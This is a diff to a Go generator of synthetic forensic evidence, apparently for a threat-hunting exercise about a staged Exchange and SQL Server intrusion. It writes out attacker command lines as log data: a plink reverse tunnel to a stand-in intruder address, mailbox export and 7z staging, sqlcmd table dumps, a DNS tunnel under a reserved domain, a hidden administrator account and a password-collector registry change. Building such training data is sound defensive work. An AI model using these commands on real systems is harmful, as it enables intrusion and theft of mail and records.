@@ -2,6 +2,7 @@ package demo
 
 import (
 	"fmt"
+	"strings"
 	"time"
 
 	"aldebaran/evidence/evtx"
@@ -10,8 +11,13 @@ import (
 const (
 	intruder = "203.0.113.77" // RFC 5737: nobody's address
 	ownAuth  = `C:\Program Files\Microsoft\Exchange Server\V15\FrontEnd\HttpProxy\owa\auth\`
-	// The page that the story turns on. It is a name in the logs; there is no such page.
-	page = "LakeView.aspx"
+	// The page that the story turns on, by the name that was published of NET-STAR's. It is a name in the
+	// logs; there is no such page.
+	page = "OutlookEN.aspx"
+	// batch is the name that was published of the collector in databases; there is no such file.
+	batch = `C:\Windows\Temp\mssq.bat`
+	// tunnel is the domain below which data leaves in names that are asked for. RFC 2606: nobody's.
+	tunnel = "cdn-lakes.example"
 )
 
 // intrusion is the story that a hunt should bring out, in its stages.
@@ -26,21 +32,45 @@ func (s *scene) intrusion() {
 	s.coveringUp()
 }
 
-// wayIn: forged view states that fail, then a page that the worker process writes, made to look
-// old, and compiled at its first request.
+// wayIn: requests that confuse the front end, forged view states that fail, then a page that arrives
+// over a share, made to look old, and compiled at its first request.
 func (s *scene) wayIn() {
+	for i, query := range []string{"@lakes.example/mapi/nspi/?synthetic", "@lakes.example/powershell/?X-Rps-CAT=synthetic", "@lakes.example/powershell/?X-Rps-CAT=synthetic"} {
+		s.request(at(0, "02:12:20").Add(time.Duration(i*31)*time.Second), request{
+			client: intruder, method: "POST", stem: "/autodiscover/autodiscover.json", query: query, agent: "Mozilla/5.0", status: 200, sent: 2011, received: 1780})
+	}
 	for i := range 4 {
 		s.add(mail, at(0, "02:14:08").Add(time.Duration(i*97)*time.Second), aspnet, 1316, unnamed("4009",
 			"Viewstate verification failed. Reason: The viewstate supplied failed integrity check.", "3/9/2026 2:14:08 AM", "/owa/auth/logon.aspx", intruder, "synthetic"))
 	}
-	s.create(mail, at(0, "02:31:05"), w3wp, ownAuth+page, system)
+	s.add(mail, at(0, "02:31:05"), security, 5145, fields("SubjectUserSid", "S-1-5-18", "SubjectUserName", mail.account(), "SubjectDomainName", domain, "SubjectLogonId", hex64(0x3e7),
+		"ObjectType", "File", "IpAddress", "127.0.0.1", "IpPort", "49812", "ShareName", `\\*\C$`, "ShareLocalPath", `\??\C:\`,
+		"RelativeTargetName", strings.TrimPrefix(ownAuth, `C:\`)+page, "AccessMask", "0x2", "AccessList", "%%4417", "AccessReason", "-"))
+	s.create(mail, at(0, "02:31:05"), "System", ownAuth+page, system)
 	s.add(mail, at(0, "02:31:41"), sysmon, 2, fields("RuleName", marker, "UtcTime", utc(at(0, "02:31:41")), "ProcessGuid", s.guid(), "ProcessId", 7312,
 		"Image", w3wp, "TargetFilename", ownAuth+page, "CreationUtcTime", "2021-09-21 08:14:02.000", "PreviousCreationUtcTime", utc(at(0, "02:31:05")), "User", system))
 	const cache = `C:\Windows\Microsoft.NET\Framework64\v4.0.30319\Temporary ASP.NET Files\owa\8e05b027\e164d61b\`
 	s.start(mail, at(0, "02:32:10"), process{`C:\Windows\Microsoft.NET\Framework64\v4.0.30319\csc.exe`,
 		`"C:\Windows\Microsoft.NET\Framework64\v4.0.30319\csc.exe" /t:library /utf8output /noconfig /fullpaths @"` + cache + `synthetic.cmdline"`, w3wp, owaPool, system})
-	s.create(mail, at(0, "02:32:12"), w3wp, cache+"lakeview.aspx.cdcab7d2.compiled", system)
+	s.create(mail, at(0, "02:32:12"), w3wp, cache+"outlooken.aspx.cdcab7d2.compiled", system)
 	s.create(mail, at(0, "02:32:12"), `C:\Windows\Microsoft.NET\Framework64\v4.0.30319\csc.exe`, cache+"App_Web_synthetic.dll", system)
+	// What is loaded from bytes leaves no file. This is the one library that was given a name.
+	s.load(mail, at(0, "02:41:30"), w3wp, cache+`assembly\ServerCore.dll`)
+	s.load(mail, at(0, "02:52:07"), w3wp, `C:\Windows\System32\vbscript.dll`)
+	for night := range days {
+		s.sessions(night)
+	}
+}
+
+// sessions: in each night one client talks to the page, in cookies that are encrypted blocks.
+func (s *scene) sessions(night int) {
+	t := at(night, "02:33:02")
+	for range 46 {
+		t = t.Add(time.Duration(22+s.random.IntN(50)) * time.Second)
+		s.request(t, request{
+			client: intruder, method: []string{"GET", "POST"}[s.random.IntN(2)], stem: "/owa/auth/" + page, agent: "Mozilla/5.0 (Windows NT 10.0; Win64; x64)",
+			cookie: "SESSIONID=" + s.blocks(12+s.random.IntN(24)), status: 200, sent: 900 + s.random.IntN(48_000), received: 1100 + s.random.IntN(900)})
+	}
 }
 
 // lookAround: the worker process starts shells that ask where they are.
@@ -70,6 +100,7 @@ func (s *scene) mailTheft() {
 	s.cmdlet(at(1, "01:26:48"), "svc-archive", "New-MailboxExportRequest", `-Mailbox "minister" -ContentFilter "(body -like '*summit*')" -FilePath "\\127.0.0.1\c$\inetpub\wwwroot\aspnet_client\lakeview.pst"`)
 	s.create(mail, at(1, "01:31:02"), `C:\Program Files\Microsoft\Exchange Server\V15\Bin\MSExchangeMailboxReplication.exe`, `C:\inetpub\wwwroot\aspnet_client\lakeview.pst`, system)
 	s.start(mail, at(1, "01:52:30"), process{`C:\ProgramData\7z.exe`, `7z.exe a -v50m C:\inetpub\wwwroot\aspnet_client\lakeview.png C:\inetpub\wwwroot\aspnet_client\lakeview.pst`, cmdExe, `"cmd.exe" /c synthetic`, system})
+	s.request(at(1, "02:20:44"), request{client: intruder, method: "GET", stem: "/aspnet_client/lakeview.png", agent: "Mozilla/5.0 (Windows NT 10.0; Win64; x64)", status: 200, sent: 52_428_911, received: 402})
 	s.cmdlet(at(1, "02:44:09"), "svc-archive", "Remove-MailboxExportRequest", `-Identity "minister\MailboxExport" -Confirm "False"`)
 }
 
@@ -90,8 +121,10 @@ func (s *scene) overToTheDatabase() {
 
 // collection: a batch file over WMI searches the schema and writes tables into text files.
 func (s *scene) collection() {
+	s.connect(mail, at(2, "00:10:01"), w3wp, system, db.ip, 135)
+	s.connect(mail, at(2, "00:10:02"), w3wp, system, db.ip, 49667)
 	s.logon(db, at(2, "00:10:03"), "svc-archive", mail.ip)
-	s.start(db, at(2, "00:10:05"), process{cmdExe, `cmd.exe /c C:\Windows\Temp\lakes.bat`, wmiprvse, `C:\Windows\system32\wbem\wmiprvse.exe -secured -Embedding`, domain + `\svc-archive`})
+	s.start(db, at(2, "00:10:05"), process{cmdExe, "cmd.exe /c " + batch, wmiprvse, `C:\Windows\system32\wbem\wmiprvse.exe -secured -Embedding`, domain + `\svc-archive`})
 	for i, word := range []string{"%passport%", "%phone%", "%envoy%", "%treaty%"} {
 		for j := range 6 {
 			t := at(2, "00:10:20").Add(time.Duration(i*60+j*9) * time.Second)
@@ -102,19 +135,33 @@ func (s *scene) collection() {
 		t := at(2, "00:16:40").Add(time.Duration(i*80) * time.Second)
 		file := fmt.Sprintf(`C:\Windows\Temp\%s.csv`, table)
 		s.start(db, t, process{`C:\Program Files\Microsoft SQL Server\Client SDK\ODBC\170\Tools\Binn\SQLCMD.EXE`,
-			fmt.Sprintf(`sqlcmd -S . -U sa -P (removed) -d registry -Q "SELECT * FROM dbo.%s" -s, -W -o %s`, table, file), cmdExe, `cmd.exe /c C:\Windows\Temp\lakes.bat`, domain + `\svc-archive`})
+			fmt.Sprintf(`sqlcmd -S . -U sa -P (removed) -d registry -Q "SELECT * FROM dbo.%s" -s, -W -o %s`, table, file), cmdExe, "cmd.exe /c " + batch, domain + `\svc-archive`})
 		s.create(db, t.Add(4*time.Second), `C:\Program Files\Microsoft SQL Server\Client SDK\ODBC\170\Tools\Binn\SQLCMD.EXE`, file, domain+`\svc-archive`)
 	}
+	for i, table := range []string{"envoys", "permits", "travel"} {
+		s.remove(db, at(2, "00:24:10").Add(time.Duration(i)*time.Second), `C:\Windows\System32\cmd.exe`, fmt.Sprintf(`C:\Windows\Temp\%s.csv`, table), domain+`\svc-archive`)
+	}
+	s.create(mail, at(2, "00:23:58"), "System", `C:\inetpub\wwwroot\aspnet_client\lakes.png`, system)
+	s.request(at(2, "00:27:19"), request{client: intruder, method: "GET", stem: "/aspnet_client/lakes.png", agent: "Mozilla/5.0 (Windows NT 10.0; Win64; x64)", status: 200, sent: 7_340_112, received: 398})
 	s.start(db, at(2, "00:31:15"), process{cmdExe, `cmd.exe /Q /c dir C:\Windows\Temp\*.csv 1> \\127.0.0.1\ADMIN$\__synthetic 2>&1`, wmiprvse, `C:\Windows\system32\wbem\wmiprvse.exe -secured -Embedding`, domain + `\svc-archive`})
 }
 
-// staying: a service, an administrator, a tunnel and a collector of passwords.
+// tunnel: data in the names that the mail server asks for, hundreds in two hours, below one domain.
+func (s *scene) tunnel() {
+	t := at(2, "03:05:00")
+	for range 320 {
+		t = t.Add(time.Duration(6+s.random.IntN(30)) * time.Second)
+		s.query(t, mail.ip, s.label(44+s.random.IntN(18))+"."+tunnel, []string{"TXT", "A"}[s.random.IntN(2)], "NOERROR")
+	}
+}
+
+// staying: a service, an administrator, tunnels and a collector of passwords.
 func (s *scene) staying() {
 	s.add(db, at(2, "00:40:22"), services, 7045, fields("ServiceName", "LakeSync", "ImagePath", `C:\Users\Public\lakesync.exe`,
 		"ServiceType", "user mode service", "StartType", "auto start", "AccountName", "LocalSystem"))
 	account := "S-1-5-21-2000000001-2000000002-2000000003-1009"
-	s.add(mail, at(2, "00:44:01"), security, 4720, fields("TargetUserName", "svc-lakes", "TargetDomainName", mail.name, "TargetSid", account,
-		"SubjectUserSid", "S-1-5-18", "SubjectUserName", mail.account(), "SubjectDomainName", domain, "SubjectLogonId", hex64(0x3e7), "PrivilegeList", "-", "SamAccountName", "svc-lakes"))
+	s.add(mail, at(2, "00:44:01"), security, 4720, fields("TargetUserName", "SUPPORT_388945c0", "TargetDomainName", mail.name, "TargetSid", account,
+		"SubjectUserSid", "S-1-5-18", "SubjectUserName", mail.account(), "SubjectDomainName", domain, "SubjectLogonId", hex64(0x3e7), "PrivilegeList", "-", "SamAccountName", "SUPPORT_388945c0"))
 	s.add(mail, at(2, "00:44:03"), security, 4732, fields("MemberName", "-", "MemberSid", account, "TargetUserName", "Administrators", "TargetDomainName", "Builtin",
 		"TargetSid", "S-1-5-32-544", "SubjectUserSid", "S-1-5-18", "SubjectUserName", mail.account(), "SubjectDomainName", domain, "SubjectLogonId", hex64(0x3e7), "PrivilegeList", "-"))
 	const reg = `C:\Windows\System32\reg.exe`
@@ -122,6 +169,7 @@ func (s *scene) staying() {
 	s.setValue(mail, at(2, "00:47:12"), reg, `HKLM\System\CurrentControlSet\Control\NetworkProvider\Order\ProviderOrder`, `RDPNP,LanmanWorkstation,webclient,lakeprov`, system)
 	s.start(mail, at(2, "00:55:30"), process{`C:\Users\Public\plink.exe`, `plink.exe -N -R 8443:10.20.0.21:3389 synthetic@` + intruder, cmdExe, `"cmd.exe" /c synthetic`, system})
 	s.connect(mail, at(2, "00:55:31"), `C:\Users\Public\plink.exe`, system, intruder, 22)
+	s.tunnel()
 }
 
 // coveringUp: the audit of the database is switched off, and the Security log of its server
